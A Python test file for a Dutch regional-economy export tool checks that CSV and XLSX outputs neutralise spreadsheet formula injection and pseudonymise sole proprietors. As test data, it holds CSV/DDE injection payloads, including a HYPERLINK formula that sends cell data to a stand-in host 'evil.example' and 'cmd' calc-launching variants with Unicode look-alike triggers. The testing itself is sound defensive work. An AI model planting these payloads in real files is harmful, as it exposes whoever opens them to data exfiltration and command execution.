"""Exports cannot attack their readers and do not identify sole proprietors: formula cells are
neutralised in CSV and XLSX (read back with csv and openpyxl), numbers stay numbers, and a sole
proprietor's name, establishment number, KvK number and exact location leave in no file."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from spreadsheet import SPLITS, formula_cells
from test_opportunities import MUNICIPALITIES, make_est

from regionomie.domain.opportunities.demo import demo_kb
from regionomie.domain.privacy import (
    SoleProprietorShield,
    coarsen_location,
    name_is_personal,
    pseudonymous_id,
)
from regionomie.exports.excel_safety import (
    FORMULA_CHARACTERS,
    needs_neutralising,
    neutralise_frame,
    neutralise_text,
)
from regionomie.exports.tabular import write_csv
from regionomie.flow import FlowConfig, run_region

KEY = b"export-safety-test-key-0123456789"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
HOSTILE_NAMES = [
    FORMULA,
    "+31 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u202e=1+1 (bidi override first)",
    "\u200b=1+1 (zero-width space first)",
    "  =1+1 (spaces first)",
]
SOLE_ID = "000099990001"
SOLE_KVK = "99990001"
SOLE_NAME = "Pietje Puk Koffie"
SOLE_LAT, SOLE_LON = 52.157318, 5.386427
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# ----------------------------------------------------------------------------- pure rules


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_every_formula_trigger_is_neutralised(text: str) -> None:
    assert needs_neutralising(text)
    safe = neutralise_text(text)
    assert safe.startswith("'") and safe.replace("'", "") == text.replace("'", "")
    if text[0] not in "\t\r":  # a leading tab or CR is also a separator: quoted after it too
        assert safe[1:] == text


SPLIT_PAYLOADS = [
    "Bakkerij;=cmd|' /C calc'!A0;x",  # nl-NL Excel: the middle becomes its own cell
    "Bakkerij,=cmd|' /C calc'!A0,x",  # en-US Excel
    "Bakkerij\t=cmd|' /C calc'!A0",  # a paste splits on tabs
    "Bakkerij\n=1+1",
    "Bakkerij\r=1+1",
    "Bakkerij;  =1+1",
    'Bakkerij;"=1+1"',  # a quote at the start of a cell is skipped by the spreadsheet
    "Bakkerij;\u200b=1+1",
    "Bakkerij;-2+3+cmd|' /C calc'!A0",
    "Bakkerij;+31 cmd|' /C calc'!A0",
    "Bakkerij;@SUM(1+1)*cmd|' /C calc'!A0",
    "Bakkerij;-3,+cmd|' /C calc'!A0",  # a number on a ',' split, a formula on a ';' split
    '\uff1dHYPERLINK("http://evil.example")',  # full-width equals sign
    "Bakkerij;\uff1d1+1",
    "Bakkerij,\ufe62cmd|' /C calc'!A0",  # small plus sign
    "Bakkerij;\u2212cmd|' /C calc'!A0",  # minus sign
    "Bakkerij;\uff20SUM(1)",  # full-width commercial at
]


def test_formula_characters_hold_every_look_alike() -> None:
    """Every code point whose compatibility form is a formula trigger is in the list."""
    import sys
    import unicodedata

    folding = {
        chr(c)
        for c in range(sys.maxunicode + 1)
        if not 0xD800 <= c <= 0xDFFF
        and unicodedata.normalize("NFKC", chr(c)) in "=+-@"
        and len(unicodedata.normalize("NFKC", chr(c))) == 1
    }
    assert folding <= FORMULA_CHARACTERS


@pytest.mark.parametrize("text", SPLIT_PAYLOADS)
def test_a_trigger_after_any_separator_is_neutralised(text: str) -> None:
    assert needs_neutralising(text)
    safe = neutralise_text(text)
    assert safe.replace("'", "") == text.replace("'", "")  # only quotes were added
    assert formula_cells(safe) == {d: [] for d in SPLITS}, safe


@pytest.mark.parametrize(
    "text", ["Koffie;-3,5", "Koffie, -", "Koffie;-", "a - b", "Thee, 12%", "1,100.0 t/jaar"]
)
def test_numbers_and_dashes_after_a_separator_stay(text: str) -> None:
    assert neutralise_text(text) == text


def test_csv_split_as_dutch_excel_splits_it_holds_no_formula(tmp_path: Path) -> None:
    """The written file, cut as nl-NL Excel (;), en-US Excel (,) and a paste (tab) cut it,
    quote-aware and naively: no cell is a formula, and every payload is still there."""
    names = HOSTILE_NAMES + SPLIT_PAYLOADS
    frame = pd.DataFrame(
        {
            "candidate_id": [f"c{i}" for i in range(len(names))],
            "producer_name": names,
            "explanation": [f"{n}, -2 km; score -0,5" for n in names],
            "score": [-0.25] * len(names),
        }
    )
    shield = SoleProprietorShield(key=KEY)
    path = write_csv(frame, tmp_path / "opportunities.csv", shield=shield)
    text = path.read_text(encoding="utf-8")
    assert formula_cells(text) == {d: [] for d in SPLITS}
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert [v.replace("'", "") for v in back["producer_name"]] == [
        n.replace("'", "") for n in names
    ]
    assert pd.to_numeric(back["score"]).tolist() == [-0.25] * len(names)


@pytest.mark.parametrize("text", ["Koffiebar De Boon B.V.", "3811AB", "", "a=b", "e-mail", "-"])
def test_harmless_text_is_unchanged(text: str) -> None:
    assert neutralise_text(text) == text


def test_neutralise_frame_touches_text_only_and_counts() -> None:
    frame = pd.DataFrame(
        {"name": ["=1+1", "ok", "-x", None], "score": [-1.5, 2.0, -3.0, 0.0], "n": [-1, 2, 3, 4]}
    )
    out, changed = neutralise_frame(frame)
    assert changed == 2
    assert out["name"].tolist()[:3] == ["'=1+1", "ok", "'-x"]
    assert out["score"].tolist() == [-1.5, 2.0, -3.0, 0.0]  # numbers stay numbers
    assert out["n"].dtype == frame["n"].dtype


@pytest.mark.parametrize(
    "form",
    [
        "Eenmanszaak",
        "eenmanszaak",
        " EENMANSZAAK ",
        "Eenmanszaak met meer dan één eigenaar",
        "Eenmanszaak met één eigenaar",
        "Vennootschap onder firma",
        "VOF",
        "v.o.f.",
        "Maatschap",
        "Commanditaire vennootschap",
        "Rederij",
        "",
        None,
        float("nan"),
        "Onbekend",
        "Buitenlandse rechtsvorm",
        "BV / eenmanszaak",
    ],
)
def test_natural_person_and_unknown_forms_are_masked(form: object) -> None:
    assert name_is_personal(form)


@pytest.mark.parametrize(
    "form",
    [
        "Besloten Vennootschap",
        "Besloten Vennootschap met gewone structuur",
        "B.V.",
        "BV",
        "Naamloze Vennootschap",
        "NV",
        "Stichting",
        "Vereniging met volledige rechtsbevoegdheid",
        "Vereniging van eigenaars",
        "Coöperatie U.A.",
        "Onderlinge Waarborgmaatschappij",
        "Kerkgenootschap",
        "Publiekrechtelijke rechtspersoon",
        "Europese naamloze vennootschap (SE)",
    ],
)
def test_known_legal_entities_show_their_name(form: str) -> None:
    assert not name_is_personal(form)


def test_pseudonym_is_stable_keyed_and_not_the_number() -> None:
    first = pseudonymous_id(SOLE_ID, KEY)
    assert first == pseudonymous_id(SOLE_ID, KEY)
    assert first != pseudonymous_id(SOLE_ID, b"another-key-of-sufficient-length")
    assert SOLE_ID not in first and first.startswith("ez-")
    with pytest.raises(ValueError):
        pseudonymous_id(SOLE_ID, b"short")


def test_coarse_location_is_a_500m_cell_centre_and_idempotent() -> None:
    lat, lon = coarsen_location(SOLE_LAT, SOLE_LON)
    assert lat is not None and lon is not None
    km = math.hypot((lat - SOLE_LAT) * 110.574, (lon - SOLE_LON) * 68.3)
    assert 0 < km <= 0.36  # half the diagonal of a 500 m cell
    assert coarsen_location(lat, lon) == (lat, lon)
    assert coarsen_location(None, None) == (None, None)


def test_shield_rewrites_ids_inside_text_and_coordinates_of_the_owner() -> None:
    est = pd.DataFrame(
        {
            "vestigingsnummer": [SOLE_ID, "000000000002"],
            "kvk_nummer": [SOLE_KVK, "12345678"],
            "is_sole_proprietor": [True, False],
        }
    )
    shield = SoleProprietorShield.from_establishments(est, KEY)
    frame = pd.DataFrame(
        {
            "producer_id": [SOLE_ID, "000000000002"],
            "candidate_id": [f"{SOLE_ID}|p1|000000000002", "000000000002|p1|x"],
            "producer_lat": [SOLE_LAT, 52.1],
            "producer_lon": [SOLE_LON, 5.3],
        }
    )
    out = shield.protect_frame(frame)
    assert out["producer_id"].tolist() == [shield.pseudonym(SOLE_ID), "000000000002"]
    assert out["candidate_id"].iat[0] == f"{shield.pseudonym(SOLE_ID)}|p1|000000000002"
    assert (out["producer_lat"].iat[0], out["producer_lon"].iat[0]) == coarsen_location(
        SOLE_LAT, SOLE_LON
    )
    assert (out["producer_lat"].iat[1], out["producer_lon"].iat[1]) == (52.1, 5.3)
    card = shield.protect_json({"producers": [{"id": SOLE_ID, "name": "x"}]})
    assert card["producers"][0]["id"] == shield.pseudonym(SOLE_ID)


@pytest.mark.parametrize("dtype", ["object", "str"])
def test_shield_frame_rewrites_exactly_what_the_text_rule_rewrites(dtype: str) -> None:
    """protect_frame finds the texts to rewrite in Arrow (digit runs that are personal
    numbers); it must agree cell by cell with protect_text, the rule written in Python:
    runs longer than a token, unicode digits next to a number and numbers that are not
    personal stay as they are."""
    est = pd.DataFrame(
        {
            "vestigingsnummer": [SOLE_ID, "000000000002"],
            "kvk_nummer": [SOLE_KVK, "12345678"],
            "is_sole_proprietor": [True, False],
        }
    )
    shield = SoleProprietorShield.from_establishments(est, KEY)
    texts = [
        f"{SOLE_ID}|p1|000000000002",
        f"000000000002|p1|{SOLE_ID}",
        f"kvk {SOLE_KVK}; 12345678",
        f"9{SOLE_ID}",  # 13 digits: no token
        f"{SOLE_KVK}0",  # 9 digits: no token
        f"\u0661{SOLE_KVK}",  # an Arabic-Indic digit makes it a 9-digit run
        f"x{SOLE_KVK}x{SOLE_ID}",
        "zonder nummers",
        None,
    ]
    frame = pd.DataFrame({"text": pd.Series(texts, dtype=dtype)})
    out = shield.protect_frame(frame)["text"].tolist()
    expected = [shield.protect_text(t) if isinstance(t, str) else t for t in texts]
    assert [None if isinstance(v, float) else v for v in out] == expected
    assert sum(a != b for a, b in zip(expected, texts, strict=True)) == 4


def test_shield_fails_closed_when_the_flag_is_missing() -> None:
    est = pd.DataFrame(
        {
            "vestigingsnummer": ["000000000001", "000000000002", "000000000003"],
            "legal_form": ["Besloten Vennootschap", "", "Eenmanszaak"],
            "is_sole_proprietor": [None, None, None],
        }
    )
    shield = SoleProprietorShield.from_establishments(est, KEY)
    assert shield.personal_ids == {"000000000002", "000000000003"}


# ----------------------------------------------------------------------------- read back


def hostile_tables() -> dict[str, pd.DataFrame]:
    rows = [
        {
            "vestigingsnummer": SOLE_ID,
            "kvk_nummer": SOLE_KVK,
            "nace_class": "5610",
            "lat": SOLE_LAT,
            "lon": SOLE_LON,
            "trade_name": SOLE_NAME,
            "is_sole_proprietor": True,
            "street": "Privestraat",
            "postcode": "3811CD",
            "employees": 3,
        }
    ]
    rows += [
        {"nace_class": "5610", "lat": 52.150 + i * 0.002, "lon": 5.39, "trade_name": name}
        for i, name in enumerate(HOSTILE_NAMES)
    ]
    rows += [
        {"nace_class": "0113", "lat": 52.165, "lon": 5.387, "trade_name": "-Zwammerij Eem"},
        {"nace_class": "1105", "lat": 52.18, "lon": 5.29, "municipality_code": "GM0342"},
    ]
    return {"establishments": make_est(rows), "municipalities": MUNICIPALITIES}


def _export(root: Path, anonymity_k: int | None = None, salt: str = "shared") -> Path:
    """The hostile region's exports; `shared` pseudonyms (the graph's) so the tests can find
    the sole proprietor by pseudonymous_id(SOLE_ID, KEY); the default salts them per export."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("REGIONOMIE_PSEUDONYM_KEY", KEY.decode())
        mp.setenv("REGIONOMIE_EXPORT_SALT", salt)
        run_region(
            "regio-amersfoort",
            hostile_tables(),
            demo_kb(),
            "2026-11-28",
            FlowConfig(exports_root=root, anonymity_k=anonymity_k),
        )
    return root / "regio-amersfoort" / "2026-11-28"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile tables exported with the defaults (k = 5)."""
    return _export(tmp_path_factory.mktemp("safe-exports"))


@pytest.fixture(scope="module")
def folder_without_k(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same with the k-anonymity step switched off (REGIONOMIE_ANONYMITY_K=0)."""
    return _export(tmp_path_factory.mktemp("safe-exports-k0"), anonymity_k=0)


def test_by_default_an_export_cannot_be_joined_to_the_graph(tmp_path: Path) -> None:
    """Unset REGIONOMIE_EXPORT_SALT salts the export per region and date: the sole
    proprietor's export id is not the graph's pseudonym (whose node keeps class, postcode
    digits and 500 m cell), and the same export again gives the same id."""
    ids = []
    for run in ("a", "b"):
        folder = _export(tmp_path / run, anonymity_k=0, salt="")
        cand = pd.read_parquet(folder / "opportunities.parquet")
        personal = set(cand["producer_id"][cand["producer_id"].str.startswith("ez-")])
        assert personal and pseudonymous_id(SOLE_ID, KEY) not in personal
        ids.append(personal)
    assert ids[0] == ids[1]


def test_xlsx_read_back_holds_no_formula(folder: Path) -> None:
    wb = openpyxl.load_workbook(folder / "opportunities.xlsx")
    formulas, risky, numbers = [], [], 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{ws.title}!{cell.coordinate}")
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    risky.append(cell.value)
                if isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                    numbers += 1
    assert formulas == []
    assert risky == []
    assert numbers > 0  # numbers were written as numbers, not neutralised text
    names = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert "'" + FORMULA in names  # the hostile name is there, as plain text


def test_csv_read_back_has_no_cell_starting_a_formula(folder: Path) -> None:
    for name in ("opportunities.csv", "business_cases.csv"):
        text = (folder / name).read_text(encoding="utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
        assert cells
        assert [c for c in cells if c.startswith(TRIGGERS)] == []
    cand = pd.read_csv(folder / "opportunities.csv", dtype=str, sep=";", encoding="utf-8-sig")
    assert "'" + FORMULA in set(cand["Leverancier"])
    scores = pd.to_numeric(cand["Score"].str.replace(",", ".", regex=False))
    assert scores.notna().all()  # numbers stay numbers (with the Dutch decimal comma)
    parquet = pd.read_parquet(folder / "opportunities.parquet")
    assert FORMULA in set(parquet["producer_name"])  # Parquet keeps the data as it was


def test_manifest_counts_the_neutralised_cells(folder: Path) -> None:
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    counts = manifest["formula_cells_neutralised"]
    cand = pd.read_csv(folder / "opportunities.csv", dtype=str, sep=";", encoding="utf-8-sig")
    # a quote in front of the text or in front of a trigger after a separator
    quoted = "^'|'[" + re.escape("".join(sorted(FORMULA_CHARACTERS))) + "]"
    by_hand = sum(cand[c].fillna("").str.contains(quoted).sum() for c in cand.columns)
    assert counts["opportunities.csv"] == by_hand > 0
    assert counts["opportunities.xlsx"] > 0
    assert set(manifest["files"]) >= {"opportunities.csv", "opportunities.xlsx", "report.html"}


def _all_texts(folder: Path) -> dict[str, str]:
    texts = {}
    for path in folder.iterdir():
        blob = path.read_bytes()
        texts[path.name] = blob.decode("utf-8", errors="replace")
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as zf:
                for n in zf.namelist():
                    texts[f"{path.name}:{n}"] = zf.read(n).decode("utf-8", errors="replace")
        if path.suffix == ".parquet":
            texts[f"{path.name}:rows"] = pd.read_parquet(path).to_csv()
    return texts


def test_no_sole_proprietor_name_number_or_exact_location_in_any_file(folder: Path) -> None:
    texts = _all_texts(folder)
    exact = (f"{SOLE_LAT}", f"{SOLE_LON}", f"{SOLE_LAT:.5f}", f"{SOLE_LON:.5f}")
    for needle in (SOLE_NAME, "Privestraat", SOLE_ID, SOLE_KVK, *exact):
        hits = [name for name, text in texts.items() if needle in text]
        assert hits == [], f"{needle!r} in {hits}"
    pseudonym = pseudonymous_id(SOLE_ID, KEY)
    assert any(pseudonym in t for t in texts.values()), "the sole proprietor is still exported"


def test_sole_proprietor_alone_in_the_register_is_shown_at_the_coarsest_step(
    folder: Path,
) -> None:
    """The hostile register holds one sole proprietor: no sector and area can be shared with
    k = 5 others, so it is shown without sector, at the region's centre, and counted."""
    cand = pd.read_parquet(folder / "opportunities.parquet")
    mine = cand[cand["producer_id"] == pseudonymous_id(SOLE_ID, KEY)]
    assert len(mine) > 0
    assert set(mine["producer_nace"]) == {""}
    assert set(mine["producer_name"]) == {"Eenmanszaak (onbekende sector, Regio Amersfoort)"}
    assert mine["producer_municipality"].isna().all()
    cell = coarsen_location(SOLE_LAT, SOLE_LON)
    assert cell not in set(zip(mine["producer_lat"], mine["producer_lon"], strict=True))
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    anonymity = manifest["anonymity"]
    assert (anonymity["k"], anonymity["pseudonymous_actors"]) == (5, 1)
    assert anonymity["after"]["below_k_on_shown_sector_and_area"] == 1
    assert anonymity["generalised"]["steps"] == {"none+region": 1}


def test_sole_proprietor_location_is_its_500m_cell(folder_without_k: Path) -> None:
    folder = folder_without_k
    cand = pd.read_parquet(folder / "opportunities.parquet")
    mine = cand[cand["producer_id"] == pseudonymous_id(SOLE_ID, KEY)]
    assert len(mine) > 0
    cell = coarsen_location(SOLE_LAT, SOLE_LON)
    assert set(zip(mine["producer_lat"], mine["producer_lon"], strict=True)) == {cell}
    geo = json.loads((folder / "opportunities_points.geojson").read_text(encoding="utf-8"))
    points = [
        f["geometry"]["coordinates"]
        for f in geo["features"]
        if f["properties"].get("vestiging_id") == pseudonymous_id(SOLE_ID, KEY)
    ]
    assert points == [[cell[1], cell[0]]]
    # the 'Wie in de buurt levert X?' sheet gives the same cell, never the exact place
    wb = openpyxl.load_workbook(folder / "opportunities.xlsx", read_only=True)
    rows = list(wb["Wie in de buurt levert X"].iter_rows(values_only=True))
    header = rows[0]
    mine_rows = [dict(zip(header, r, strict=True)) for r in rows[1:]
                 if pseudonymous_id(SOLE_ID, KEY) in r]  # fmt: skip
    assert mine_rows
    for row in mine_rows:
        assert (row["Breedtegraad (WGS84)"], row["Lengtegraad (WGS84)"]) == (
            pytest.approx(cell[0]), pytest.approx(cell[1]))  # fmt: skip


def test_files_are_owner_only(folder: Path) -> None:
    for path in folder.iterdir():
        assert path.stat().st_mode & 0o077 == 0, path.name
    assert folder.stat().st_mode & 0o077 == 0
